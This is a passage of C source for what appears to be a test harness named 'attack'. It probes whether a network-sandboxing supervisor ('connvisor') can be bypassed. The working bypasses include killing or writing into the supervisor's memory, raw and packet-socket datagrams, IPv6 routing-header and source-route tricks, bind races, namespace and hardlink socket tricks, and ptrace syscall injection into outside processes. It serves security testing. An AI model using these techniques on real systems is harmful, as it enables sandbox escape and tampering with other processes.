static int m_sup_kill(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	pid_t sup = getppid();
	char path[64], comm[64] = {0};
	snprintf(path, sizeof path, "/proc/%d/comm", sup);
	FILE *f = fopen(path, "r");
	if (!f || !fgets(comm, sizeof comm, f) || strncmp(comm, "connvisor", 9)) {
		printf("SKIP parent %d is %s, not connvisor\n", sup, comm);
		return 0;
	}
	fclose(f);
	if (kill(sup, SIGKILL)) {
		verdict(-1, errno, "(kill the supervisor)");
		return 0;
	}
	while (getppid() == sup) usleep(1000); // reparented once it is gone
	usleep(50000);
	int s = tcp();
	long r = rconnect(s, &sa, sizeof sa);
	int e = errno;
	if (r == 0) write(s, "x", 1);
	verdict(r, e, "(after killing the supervisor)");
	return 0;
}

// raw-udp IP PORT: a UDP datagram built by hand on a raw socket. The
// sockaddr carries no port, so a rule for IP:PORT cannot see it.
static int m_raw_udp(char **a) {
	struct sockaddr_in sa = addr4(a[0], "0");
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
	if (s < 0) {
		verdict(-1, errno, "(raw socket)");
		return 0;
	}
	struct sockaddr_in me = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int u = socket(AF_INET, SOCK_DGRAM, 0); // a port of ours for the echo
	bind(u, (struct sockaddr *)&me, sizeof me);
	socklen_t ml = sizeof me;
	getsockname(u, (struct sockaddr *)&me, &ml);
	uint16_t pkt[6];
	pkt[0] = me.sin_port;
	pkt[1] = htons(atoi(a[1]));
	pkt[2] = htons(12);
	pkt[3] = 0; // no checksum: allowed for UDP over IPv4
	memcpy(&pkt[4], "raw!", 4);
	long r = sendto(s, pkt, sizeof pkt, 0, (struct sockaddr *)&sa, sizeof sa);
	if (r < 0) {
		verdict(r, errno, "(raw sendto)");
		return 0;
	}
	if (udp_echo(u)) verdict(0, 0, "(hand-made UDP datagram on a raw socket)");
	else printf("BLOCKED noecho (raw datagram sent, nothing came back)\n");
	return 0;
}

// sup-mem: can the target read and write the supervisor's memory, or trace it?
static int m_sup_mem(void) {
	pid_t sup = getppid();
	char path[64], line[256];
	snprintf(path, sizeof path, "/proc/%d/maps", sup);
	FILE *f = fopen(path, "r");
	if (!f) {
		printf("BLOCKED %s (open %s)\n", ename(errno), path);
		return 0;
	}
	unsigned long lo = 0, hi;
	char perms[8];
	while (fgets(line, sizeof line, f))
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == 'r' && perms[1] == 'w') break;
	fclose(f);
	char b;
	struct iovec l = {&b, 1}, r = {(void *)lo, 1};
	int rd = process_vm_readv(sup, &l, 1, &r, 1, 0) == 1 ? 0 : errno;
	int wr = rd ? rd : (process_vm_writev(sup, &l, 1, &r, 1, 0) == 1 ? 0 : errno); // the same byte back
	int tr = ptrace(PTRACE_SEIZE, sup, 0, 0) == 0 ? 0 : errno;
	if (!tr) ptrace(PTRACE_DETACH, sup, 0, 0);
	snprintf(path, sizeof path, "/proc/%d/mem", sup);
	int memfd = open(path, O_RDWR);
	int me = memfd < 0 ? errno : 0;
	printf("INFO supervisor=%d read=%s write=%s ptrace=%s proc-mem-rw=%s\n", sup, rd ? ename(rd) : "ok",
	       wr ? ename(wr) : "ok", tr ? ename(tr) : "ok", me ? ename(me) : "ok");
	if (!wr || !tr || !me) printf("REACHED supervisor memory is writable by the target\n");
	else printf("BLOCKED %s\n", ename(wr));
	return 0;
}

// ---- flood and soak ---------------------------------------------------------
static struct sockaddr_in flood_deny, flood_allow;
static atomic_long flood_reached, flood_denied, flood_allowed;
static volatile int flood_stop;

static double now_s(void) {
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void *flooder(void *arg) {
	long i = (long)arg;
	while (!flood_stop) {
		int s = tcp();
		struct linger lg = {1, 0};
		setsockopt(s, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
		struct sockaddr_in *sa = (i++ & 1) ? &flood_allow : &flood_deny;
		if (rconnect(s, sa, sizeof *sa) == 0) {
			if (sa == &flood_deny) flood_reached++;
			else flood_allowed++;
		} else if (sa == &flood_deny) flood_denied++;
		close(s);
	}
	return NULL;
}

// flood IP DENYPORT ALLOWPORT THREADS SECONDS: every thread connects in a
// loop (odd tries to ALLOWPORT); the main thread measures how long one
// allowed connect takes meanwhile.
static int m_flood(char **a) {
	flood_deny = addr4(a[0], a[1]);
	flood_allow = addr4(a[0], a[2]);
	int n = atoi(a[3]);
	double secs = atof(a[4]);
	pthread_t *th = calloc(n, sizeof *th);
	for (long i = 0; i < n; i++) pthread_create(&th[i], NULL, flooder, (void *)(i * 2)); // even: deny first
	double end = now_s() + secs, worst = 0;
	long probes = 0, failed = 0;
	while (now_s() < end) {
		double t0 = now_s();
		int s = tcp();
		if (rconnect(s, &flood_allow, sizeof flood_allow) != 0) failed++;
		close(s);
		double dt = now_s() - t0;
		if (dt > worst) worst = dt;
		probes++;
		usleep(20000);
	}
	flood_stop = 1;
	for (int i = 0; i < n; i++) pthread_join(th[i], NULL);
	printf("STATS threads=%d denied=%ld allowed=%ld probes=%ld probe_failed=%ld worst_probe_ms=%.1f\n", n,
	       (long)flood_denied, (long)flood_allowed, probes, failed, worst * 1e3);
	if (flood_reached) printf("REACHED %ld denied connects got through\n", (long)flood_reached);
	else printf("BLOCKED EACCES\n");
	return 0;
}

// soak IP DENYPORT ALLOWPORT THREADS SECONDS WORKERS: WORKERS processes
// share THREADS flooding threads; a worker that is killed (the test kills
// them at random) is replaced until the time is up.
static int m_soak(char **a) {
	flood_deny = addr4(a[0], a[1]);
	flood_allow = addr4(a[0], a[2]);
	int threads = atoi(a[3]), workers = atoi(a[5]);
	double end = now_s() + atof(a[4]);
	int per = threads / workers;
	pid_t *pids = calloc(workers, sizeof *pids);
	long spawned = 0;
	for (;;) {
		int done = now_s() >= end;
		for (int w = 0; w < workers && !done; w++) {
			if (pids[w] > 0) continue;
			pid_t p = fork();
			if (p == 0) {
				for (long i = 0; i < per; i++) {
					pthread_t th;
					pthread_create(&th, NULL, flooder, (void *)i);
				}
				for (;;) pause();
			}
			pids[w] = p;
			spawned++;
		}
		if (done) break;
		int st;
		pid_t p = waitpid(-1, &st, WNOHANG);
		if (p > 0)
			for (int w = 0; w < workers; w++)
				if (pids[w] == p) pids[w] = 0;
		if (p <= 0) usleep(10000);
	}
	for (int w = 0; w < workers; w++)
		if (pids[w] > 0) kill(pids[w], SIGKILL);
	while (wait(NULL) > 0) {
	}
	printf("STATS workers_spawned=%ld\n", spawned);
	return 0;
}

// ==== issue 12: security, round two ========================================

// rthdr6 ALLOWED6 PORT: an IPv6 UDP socket with a sticky segment routing
// header (type 4, no privilege needed) whose segment is ::1: sendto names
// ALLOWED6 (say 2001:db8::1), the packet goes to ::1, where it arrives with
// no segments left and is delivered to the server on [::1]:PORT.
static int m_rthdr6(char **a) {
	struct sockaddr_in6 sa = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(a[1]))};
	if (inet_pton(AF_INET6, a[0], &sa.sin6_addr) != 1) {
		printf("ERROR bad address %s\n", a[0]);
		return 2;
	}
	int s = socket(AF_INET6, SOCK_DGRAM, 0);
	if (s < 0) die("socket");
	struct sockaddr_in6 me = {.sin6_family = AF_INET6, .sin6_addr = IN6ADDR_LOOPBACK_INIT};
	if (bind(s, (struct sockaddr *)&me, sizeof me)) die("bind ::1");
	unsigned char buf[8 + 16] = {0};
	struct ipv6_sr_hdr *srh = (struct ipv6_sr_hdr *)buf;
	srh->nexthdr = 0;
	srh->hdrlen = 2; // (8 + 16) / 8 - 1
	srh->type = IPV6_SRCRT_TYPE_4;
	srh->segments_left = 0;
	srh->first_segment = 0;
	srh->segments[0] = in6addr_loopback;
	if (setsockopt(s, IPPROTO_IPV6, IPV6_RTHDR, buf, sizeof buf)) {
		verdict(-1, errno, "(setsockopt IPV6_RTHDR)");
		return 0;
	}
	if (sendto(s, "srh", 3, 0, (struct sockaddr *)&sa, sizeof sa) < 0) {
		verdict(-1, errno, "(sendto with a routing header)");
		return 0;
	}
	if (udp_echo(s)) verdict(0, 0, "(sent to the allowed address, delivered to ::1 by the routing header)");
	else printf("BLOCKED noecho (sent, nothing came back)\n");
	return 0;
}

// sockopt NAME: a socket option that sends packets somewhere the decided
// destination does not name. REACHED: the kernel took the option.
static int m_sockopt(char **a) {
	const char *n = a[0];
	long r;
	if (!strcmp(n, "ip-options") || !strcmp(n, "ip-options-hi")) {
		// LSRR through 127.0.0.1: NOP, then type 0x83, length 7, pointer 4.
		unsigned char opt[8] = {1, 0x83, 7, 4, 127, 0, 0, 1};
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		long level = IPPROTO_IP;
		if (n[10]) level |= 1L << 32; // the kernel reads an int
		r = syscall(SYS_setsockopt, s, level, IP_OPTIONS, opt, sizeof opt);
	} else if (!strcmp(n, "rthdr6") || !strcmp(n, "rthdr6-hi")) {
		unsigned char buf[24] = {0};
		struct ipv6_sr_hdr *srh = (struct ipv6_sr_hdr *)buf;
		srh->hdrlen = 2;
		srh->type = IPV6_SRCRT_TYPE_4;
		srh->segments[0] = in6addr_loopback;
		int s = socket(AF_INET6, SOCK_DGRAM, 0);
		long name = IPV6_RTHDR;
		if (n[6]) name |= 1L << 32;
		r = syscall(SYS_setsockopt, s, (long)IPPROTO_IPV6, name, buf, sizeof buf);
	} else if (!strcmp(n, "pktoptions2292")) {
		// RFC 2292's sticky options: a control message with the header.
		union {
			char buf[CMSG_SPACE(24)];
			struct cmsghdr align;
		} u = {0};
		struct cmsghdr *c = &u.align;
		c->cmsg_level = IPPROTO_IPV6;
		c->cmsg_type = IPV6_RTHDR;
		c->cmsg_len = CMSG_LEN(24);
		// ip6_datagram_send_ctl takes type 2 only (Mobile IPv6: the
		// packet goes to the address in the header).
		unsigned char *rh = CMSG_DATA(c);
		rh[1] = 2; // hdrlen
		rh[2] = IPV6_SRCRT_TYPE_2;
		rh[3] = 1; // segments left
		memcpy(rh + 8, &in6addr_loopback, 16);
		int s = socket(AF_INET6, SOCK_DGRAM, 0);
		r = setsockopt(s, IPPROTO_IPV6, IPV6_2292PKTOPTIONS, u.buf, CMSG_SPACE(24));
	} else {
		printf("ERROR unknown option %s\n", n);
		return 2;
	}
	verdict(r, errno, n);
	return 0;
}

// packet-udp IP PORT hi|inet-packet|unspec: a UDP datagram built by hand
// and sent past the raw socket rule: socket((1<<32)|AF_INET, SOCK_RAW)
// (the kernel reads an int), socket(AF_INET, SOCK_PACKET) (a packet
// socket in disguise), or an AF_PACKET socket whose sockaddr_ll says
// family 0 (packet_snd never looks at it).
static unsigned short ip_csum(const void *p, int n) {
	const unsigned short *w = p;
	unsigned long sum = 0;
	for (; n > 1; n -= 2) sum += *w++;
	while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static int m_packet_udp(char **a) {
	const char *how = a[2];
	struct sockaddr_in dst = addr4(a[0], a[1]);
	struct sockaddr_in me = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int u = socket(AF_INET, SOCK_DGRAM, 0); // a port of ours for the echo
	bind(u, (struct sockaddr *)&me, sizeof me);
	socklen_t ml = sizeof me;
	getsockname(u, (struct sockaddr *)&me, &ml);
	unsigned char frame[14 + 20 + 8 + 4] = {0};
	unsigned char *ip = frame + 14;
	frame[12] = 0x08; // ETH_P_IP; loopback's MAC addresses are zero
	struct iphdr *ih = (struct iphdr *)ip;
	ih->version = 4;
	ih->ihl = 5;
	ih->ttl = 64;
	ih->protocol = IPPROTO_UDP;
	ih->tot_len = htons(20 + 8 + 4);
	ih->saddr = me.sin_addr.s_addr;
	ih->daddr = dst.sin_addr.s_addr;
	ih->check = ip_csum(ih, 20);
	uint16_t *udp = (uint16_t *)(ip + 20);
	udp[0] = me.sin_port;
	udp[1] = dst.sin_port;
	udp[2] = htons(8 + 4);
	udp[3] = 0; // no checksum: allowed for UDP over IPv4
	memcpy(ip + 28, "pkt!", 4);
	long s, r;
	if (!strcmp(how, "hi")) {
		s = syscall(SYS_socket, (1L << 32) | AF_INET, (long)SOCK_RAW, (long)IPPROTO_UDP);
		if (s < 0) {
			verdict(-1, errno, "(socket((1<<32)|AF_INET, SOCK_RAW))");
			return 0;
		}
		struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst.sin_addr};
		r = sendto(s, ip + 20, 12, 0, (struct sockaddr *)&to, sizeof to);
	} else if (!strcmp(how, "inet-packet")) {
		s = socket(AF_INET, SOCK_PACKET, htons(ETH_P_ALL));
		if (s < 0) {
			verdict(-1, errno, "(socket(AF_INET, SOCK_PACKET))");
			return 0;
		}
		struct sockaddr spkt = {.sa_family = AF_PACKET};
		strcpy(spkt.sa_data, "lo");
		r = sendto(s, frame, sizeof frame, 0, &spkt, sizeof spkt);
	} else {
		s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
		if (s < 0) {
			verdict(-1, errno, "(socket(AF_PACKET))");
			return 0;
		}
		struct sockaddr_ll ll = {.sll_family = 0, .sll_protocol = htons(ETH_P_IP),
					 .sll_ifindex = if_nametoindex("lo"), .sll_halen = 6};
		r = sendto(s, frame, sizeof frame, 0, (struct sockaddr *)&ll, sizeof ll);
	}
	if (r < 0) {
		verdict(r, errno, "(send)");
		return 0;
	}
	if (udp_echo(u)) verdict(0, 0, how);
	else printf("BLOCKED noecho (sent, nothing came back)\n");
	return 0;
}

// raw6-unspec IP6 PORT: a UDP datagram built by hand on an IPv6 raw socket,
// sent to a name of family 0, which rawv6_sendmsg takes as AF_INET6.
static int m_raw6_unspec(char **a) {
	struct sockaddr_in6 to = {.sin6_family = 0};
	if (inet_pton(AF_INET6, a[0], &to.sin6_addr) != 1) {
		printf("ERROR bad address %s\n", a[0]);
		return 2;
	}
	int s = socket(AF_INET6, SOCK_RAW, IPPROTO_UDP);
	if (s < 0) {
		verdict(-1, errno, "(raw IPv6 socket)");
		return 0;
	}
	int off = 6; // the kernel fills in the UDP checksum (mandatory over IPv6)
	if (setsockopt(s, IPPROTO_IPV6, IPV6_CHECKSUM, &off, sizeof off)) die("IPV6_CHECKSUM");
	struct sockaddr_in6 me = {.sin6_family = AF_INET6, .sin6_addr = IN6ADDR_LOOPBACK_INIT};
	int u = socket(AF_INET6, SOCK_DGRAM, 0); // a port of ours for the echo
	if (bind(u, (struct sockaddr *)&me, sizeof me)) die("bind");
	socklen_t ml = sizeof me;
	getsockname(u, (struct sockaddr *)&me, &ml);
	uint16_t pkt[6] = {me.sin6_port, htons(atoi(a[1])), htons(12), 0};
	memcpy(&pkt[4], "raw6", 4);
	if (sendto(s, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) < 0) {
		verdict(-1, errno, "(raw sendto, family 0)");
		return 0;
	}
	if (udp_echo(u)) verdict(0, 0, "(hand-made UDP datagram, name of family 0)");
	else printf("BLOCKED noecho (sent, nothing came back)\n");
	return 0;
}

// connect6-bound BIND6 DEST6 PORT tcp|udp: an IPv6 socket bound to BIND6
// connects to DEST6 ("::": tcp_v6_connect takes it for 127.0.0.1 when the
// socket is bound to an IPv4-mapped address).
static int m_connect6_bound(char **a) {
	struct sockaddr_in6 me = {.sin6_family = AF_INET6}, sa = {.sin6_family = AF_INET6, .sin6_port = htons(atoi(a[2]))};
	if (inet_pton(AF_INET6, a[0], &me.sin6_addr) != 1 || inet_pton(AF_INET6, a[1], &sa.sin6_addr) != 1) {
		printf("ERROR bad address\n");
		return 2;
	}
	int udp = !strcmp(a[3], "udp");
	int s = socket(AF_INET6, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
	if (s < 0) die("socket");
	if (bind(s, (struct sockaddr *)&me, sizeof me)) die("bind");
	long r = rconnect(s, &sa, sizeof sa);
	int e = errno;
	if (r < 0) {
		verdict(r, e, "(connect)");
		return 0;
	}
	if (!udp) {
		write(s, "x", 1);
		verdict(0, 0, "(tcp)");
		return 0;
	}
	send(s, "bound6", 6, 0);
	if (udp_echo(s)) verdict(0, 0, "(udp)");
	else printf("BLOCKED noecho (sent, nothing came back)\n");
	return 0;
}

// bindrace PORT BINDIP TRIES: one thread connects a fresh TCP socket to
// 0.0.0.0:PORT while another binds that socket to BINDIP. The kernel
// connects 0.0.0.0 to the socket's bound address at the moment of the
// connect: the address decided before a bind must be the one connected.
static atomic_int race_fd = -1;
static atomic_long race_delay_ns;
static struct sockaddr_in race_bind;

static void *binder(void *arg) {
	(void)arg;
	while (!atomic_load(&race_stop)) {
		// Take the descriptor once: the next socket reuses its number.
		int fd = atomic_exchange(&race_fd, -1);
		if (fd < 0) continue;
		// Bind at once, or up to 100 µs later: wrapped, inside the
		// supervisor's decision.
		long delay = atomic_load(&race_delay_ns);
		if (delay) {
			struct timespec t0, t;
			clock_gettime(CLOCK_MONOTONIC, &t0);
			do clock_gettime(CLOCK_MONOTONIC, &t);
			while ((t.tv_sec - t0.tv_sec) * 1000000000L + t.tv_nsec - t0.tv_nsec < delay);
		}
		bind(fd, (struct sockaddr *)&race_bind, sizeof race_bind);
	}
	return NULL;
}

static int m_bindrace(char **a) {
	struct sockaddr_in any = addr4("0.0.0.0", a[0]);
	race_bind = addr4(a[1], "0");
	int tries = atoi(a[2]);
	pthread_t th;
	pthread_create(&th, NULL, binder, NULL);
	long moved = 0, loop = 0, refused = 0, last = 0;
	for (int i = 0; i < tries; i++) {
		int s = tcp();
		struct linger lg = {1, 0};
		setsockopt(s, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
		// Every other try waits until the binder has bound the socket
		// (natively, those connects go to the bound address); the others
		// let it bind at a random moment during the connect.
		atomic_store(&race_delay_ns, i % 2 ? 1 + rand() % 100000 : 0);
		atomic_store(&race_fd, s);
		if (i % 2 == 0)
			while (atomic_load(&race_fd) >= 0);
		if (rconnect(s, &any, sizeof any) == 0) {
			struct sockaddr_in peer;
			socklen_t pl = sizeof peer;
			getpeername(s, (struct sockaddr *)&peer, &pl);
			if (peer.sin_addr.s_addr == race_bind.sin_addr.s_addr) moved++;
			else loop++;
		} else {
			refused++;
			last = errno;
		}
		atomic_store(&race_fd, -1);
		close(s);
	}
	atomic_store(&race_stop, 1);
	pthread_join(th, NULL);
	char why[128];
	snprintf(why, sizeof why, "tries=%d to_bound=%ld to_loopback=%ld refused=%ld", tries, moved, loop, refused);
	if (moved) printf("REACHED %s\n", why);
	else printf("BLOCKED %s %s\n", last ? ename(last) : "none", why);
	return 0;
}

// userns-mount ALLOWEDDIR DENIEDSOCK: as nobody, in a new user and mount
// namespace, mount a tmpfs over the allowed directory, bind-mount the
// denied socket into it, and connect by the allowed name.
static int m_userns_mount(char **a) {
	char name[100];
	snprintf(name, sizeof name, "%s/x.sock", a[0]);
	drop_to(65534);
	prctl(PR_SET_DUMPABLE, 1); // a uid change cleared it: /proc/self/uid_map would be root's
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) {
		verdict(-1, errno, "(unshare(CLONE_NEWUSER|CLONE_NEWNS))");
		return 0;
	}
	const char *maps[][2] = {{"/proc/self/uid_map", "0 65534 1"}, {"/proc/self/setgroups", "deny"},
				 {"/proc/self/gid_map", "0 65534 1"}};
	for (int i = 0; i < 3; i++) {
		int fd = open(maps[i][0], O_WRONLY);
		if (fd < 0 || write(fd, maps[i][1], strlen(maps[i][1])) < 0) die(maps[i][0]);
		close(fd);
	}
	int fd;
	if (mount("none", a[0], "tmpfs", 0, NULL)) {
		verdict(-1, errno, "(mount tmpfs)");
		return 0;
	}
	fd = open(name, O_CREAT | O_WRONLY, 0666);
	if (fd < 0) die("create mount point");
	close(fd);
	if (mount(a[1], name, NULL, MS_BIND, NULL)) {
		verdict(-1, errno, "(bind mount)");
		return 0;
	}
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	snprintf(sa.sun_path, sizeof sa.sun_path, "%s", name);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	long r = rconnect(s, &sa, sizeof sa);
	int e = errno;
	if (r == 0) write(s, "x", 1);
	verdict(r, e, "(connect to the bind-mounted socket)");
	return 0;
}

// hardlink ALLOWEDDIR DENIEDSOCK: link the denied socket into the allowed
// directory and connect by the new name.
static int m_hardlink(char **a) {
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	snprintf(sa.sun_path, sizeof sa.sun_path, "%s/link.sock", a[0]);
	unlink(sa.sun_path);
	if (link(a[1], sa.sun_path)) {
		verdict(-1, errno, "(link)");
		return 0;
	}
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	long r = rconnect(s, &sa, sizeof sa);
	int e = errno;
	if (r == 0) write(s, "x", 1);
	unlink(sa.sun_path);
	verdict(r, e, "(connect to a hard link of the denied socket)");
	return 0;
}

// victim IP PORT [UID]: a process outside the wrapped tree holding an unconnected
// socket and the address of the denied server; it prints both and waits.
static int m_victim(char **a) {
	static struct sockaddr_in sa;
	sa = addr4(a[0], a[1]);
	if (a[2]) {
		drop_to(atoi(a[2]));
		prctl(PR_SET_DUMPABLE, 1); // as any process of that user would be
	}
	int s = tcp();
	printf("VICTIM %d %d %lu %lu\n", (int)getpid(), s, (unsigned long)(uintptr_t)&sa, (unsigned long)(uintptr_t)gadget);
	fflush(stdout);
	for (;;) pause();
	return 0;
}

// ptrace-pid PID FD ADDR GADGET [UID]: inject connect(FD, ADDR, 16) into a
// process outside the tree (the victim, which printed these numbers)
// through its syscall gadget.
static int m_ptrace_pid(char **a) {
	pid_t victim = atoi(a[0]);
	int fd = atoi(a[1]);
	unsigned long addr = strtoul(a[2], NULL, 10);
	if (a[4]) drop_to(atoi(a[4]));
	if (ptrace(PTRACE_SEIZE, victim, 0, 0) < 0) {
		verdict(-1, errno, "(PTRACE_SEIZE a process outside the tree)");
		return 0;
	}
	int st;
	ptrace(PTRACE_INTERRUPT, victim, 0, 0);
	waitpid(victim, &st, __WALL);
	struct user_regs_struct regs, saved;
	ptrace(PTRACE_GETREGS, victim, 0, &saved);
	regs = saved;
	regs.orig_rax = -1;
	regs.rip = strtoul(a[3], NULL, 10);
	regs.rax = SYS_connect;
	regs.rdi = fd;
	regs.rsi = addr;
	regs.rdx = sizeof(struct sockaddr_in);
	ptrace(PTRACE_SETREGS, victim, 0, &regs);
	ptrace(PTRACE_CONT, victim, 0, 0);
	for (;;) {
		if (waitpid(victim, &st, __WALL) < 0) break;
		if (WIFSTOPPED(st) && WSTOPSIG(st) == SIGTRAP) break;
		ptrace(PTRACE_CONT, victim, 0, WIFSTOPPED(st) ? WSTOPSIG(st) : 0);
	}
	ptrace(PTRACE_GETREGS, victim, 0, &regs);
	long r = (long)regs.rax;
	ptrace(PTRACE_SETREGS, victim, 0, &saved);
	ptrace(PTRACE_DETACH, victim, 0, 0);
	verdict(r < 0 ? -1 : 0, r < 0 ? (int)-r : 0, "(connect injected into a process outside the tree)");
	return 0;
}

// getfd-pid PID FD [UID]: take a socket of a process outside the tree.
static int m_getfd_pid(char **a) {
	if (a[2]) drop_to(atoi(a[2]));
	int pidfd = syscall(SYS_pidfd_open, atoi(a[0]), 0);
	if (pidfd < 0) die("pidfd_open");
	long r = syscall(SYS_pidfd_getfd, pidfd, atoi(a[1]), 0);
	verdict(r, errno, "(pidfd_getfd from a process outside the tree)");
	return 0;
}

// ---------------------------------------------------------------------------
// Doors of the send path (issue 12: 1 and 10 for control messages, 5, 8, 9).

// cmsg-send IP PORT KIND: a UDP datagram to IP:PORT (allowed) carrying a
// control message the kernel judges with the sender's privileges or that
// reroutes the packet. KIND: retopts (a loose source route through the
// destination itself), mark (SO_MARK). RESULT is what sendmsg returned.
static int m_cmsg_send(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0) die("socket");
	char ctl[CMSG_SPACE(40)] = {0};
	struct cmsghdr *cm = (void *)ctl;
	if (!strcmp(a[2], "retopts")) {
		unsigned char opt[8] = {IPOPT_NOP, IPOPT_LSRR, 7, 4};
		memcpy(opt + 4, &sa.sin_addr, 4);
		cm->cmsg_level = IPPROTO_IP, cm->cmsg_type = IP_RETOPTS;
		cm->cmsg_len = CMSG_LEN(sizeof opt);
		memcpy(CMSG_DATA(cm), opt, sizeof opt);
	} else {
		int mark = 7;
		cm->cmsg_level = SOL_SOCKET, cm->cmsg_type = SO_MARK;
		cm->cmsg_len = CMSG_LEN(sizeof mark);
		memcpy(CMSG_DATA(cm), &mark, sizeof mark);
	}
	struct iovec iov = {"attack", 6};
	struct msghdr mh = {.msg_name = &sa, .msg_namelen = sizeof sa, .msg_iov = &iov, .msg_iovlen = 1,
			    .msg_control = ctl, .msg_controllen = CMSG_ALIGN(cm->cmsg_len)};
	long r = sendmsg(s, &mh, 0);
	printf("RESULT %s\n", r < 0 ? strerrorname_np(errno) : "ok");
	return 0;
}

// mmsg-huge IP PORT: one sendmmsg of 1024 entries, each 1 MiB from the same
// buffer, to a UDP server: the kernel refuses the first with EMSGSIZE at
// once. A supervisor that copied every entry would hold a GiB.
static int m_mmsg_huge(char **a) {
	struct sockaddr_in sa = addr4(a[0], a[1]);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0) die("socket");
	static struct mmsghdr v[1024];
	char *b = calloc(1, 1 << 20);
	struct iovec iov = {b, 1 << 20};
	for (int i = 0; i < 1024; i++)
		v[i].msg_hdr = (struct msghdr){.msg_name = &sa, .msg_namelen = sizeof sa, .msg_iov = &iov, .msg_iovlen = 1};
	int r = sendmmsg(s, v, 1024, 0);
	printf("RESULT %s\n", r < 0 ? strerrorname_np(errno) : "sent");
	return 0;
}

// held-sends N: N threads each block in a 64 MiB sendmsg to a UNIX stream
// peer that never reads; after a second the process exits. A supervisor
// that kept a copy of each held send would hold N × 64 MiB.
static void *held_sender(void *p) {
	(void)p;
	int sv[2];
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0) return NULL;
	char *b = calloc(1, 64 << 20);
	struct iovec iov = {b, 64 << 20};
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1};
	sendmsg(sv[0], &mh, 0);
	return NULL;
}

static int m_held_sends(char **a) {
	int n = atoi(a[0]);
	for (int i = 0; i < n; i++) {
		pthread_t t;
		pthread_create(&t, NULL, held_sender, NULL);
	}
	sleep(1);
	printf("RESULT held\n");
	fflush(stdout);
	_exit(0);
}

// send-interrupt restart|retry: a blocking 8 MiB sendmsg to a UNIX stream
// peer that reads nothing until it returns is interrupted by SIGALRM. With
// SA_RESTART, or with a loop that retries the same call after EINTR, the
// program must be told exactly what the peer gets: RESULT same or differs.
static void on_alarm(int s) { (void)s; }

static int m_send_interrupt(char **a) {
	struct sigaction act = {.sa_handler = on_alarm, .sa_flags = !strcmp(a[0], "restart") ? SA_RESTART : 0};
	sigaction(SIGALRM, &act, NULL);
	int sv[2];
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0) die("socketpair");
	struct itimerval it = {{0, 0}, {0, 200000}};
	setitimer(ITIMER_REAL, &it, NULL);
	char *b = calloc(1, 8 << 20);
	struct iovec iov = {b, 8 << 20};
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1};
	long r;
	do
		r = sendmsg(sv[0], &mh, 0);
	while (r < 0 && errno == EINTR);
	close(sv[0]);
	long total = 0, n;
	static char rb[1 << 16];
	while ((n = read(sv[1], rb, sizeof rb)) > 0)
		total += n;
	printf("RESULT %s told=%ld received=%ld\n", total == r ? "same" : "differs", r, total);
	return 0;
}

// mmsg-exec IP PORT_ALL PORT_EXE EXE: a sendmmsg whose first 1000 entries go
// to PORT_ALL and last 24 to PORT_EXE, while another thread execs EXE
// midway. A policy that allows PORT_EXE only for EXE must not see the last
// entries decided as EXE: the call ends with the thread that made it.
static char **mmsg_exec_argv;
static void *execer(void *p) {
	(void)p;
	usleep(2000);
	execv(mmsg_exec_argv[0], mmsg_exec_argv);
	return NULL;
}

static int m_mmsg_exec(char **a) {
	struct sockaddr_in all = addr4(a[0], a[1]), exe = addr4(a[0], a[2]);
	static char *argv[2];
	argv[0] = a[3];
	mmsg_exec_argv = argv;
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0) die("socket");
	int big = 8 << 20;
	setsockopt(s, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
	static struct mmsghdr v[1024];
	static struct iovec iov = {"attack", 6};
	for (int i = 0; i < 1024; i++)
		v[i].msg_hdr = (struct msghdr){.msg_name = i < 1000 ? &all : &exe, .msg_namelen = sizeof all,
					       .msg_iov = &iov, .msg_iovlen = 1};
	pthread_t t;
	pthread_create(&t, NULL, execer, NULL);
	for (int i = 0; i < 100000; i++)
		sendmmsg(s, v, 1024, 0);
	printf("RESULT no exec\n");
	return 0;
}

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IOLBF, 0);
	signal(SIGPIPE, SIG_IGN); // servers close at once; a write must not kill us
	if (argc < 2) {
		fprintf(stderr, "usage: attack MODE ARGS...\n");
		return 2;
	}
	const char *m = argv[1];
	char **a = argv + 2;
	int n = argc - 2;
#define NEED(k)                                                      \
	do {                                                         \
		if (n < (k)) {                                       \
			fprintf(stderr, "%s needs %d arguments\n", m, k); \
			return 2;                                    \
		}                                                    \
	} while (0)
	if (!strcmp(m, "cmsg-send")) { NEED(3); return m_cmsg_send(a); }
	if (!strcmp(m, "mmsg-huge")) { NEED(2); return m_mmsg_huge(a); }
	if (!strcmp(m, "held-sends")) { NEED(1); return m_held_sends(a); }
	if (!strcmp(m, "send-interrupt")) { NEED(1); return m_send_interrupt(a); }
	if (!strcmp(m, "mmsg-exec")) { NEED(4); return m_mmsg_exec(a); }
	if (!strcmp(m, "connect")) { NEED(2); return m_connect(a); }
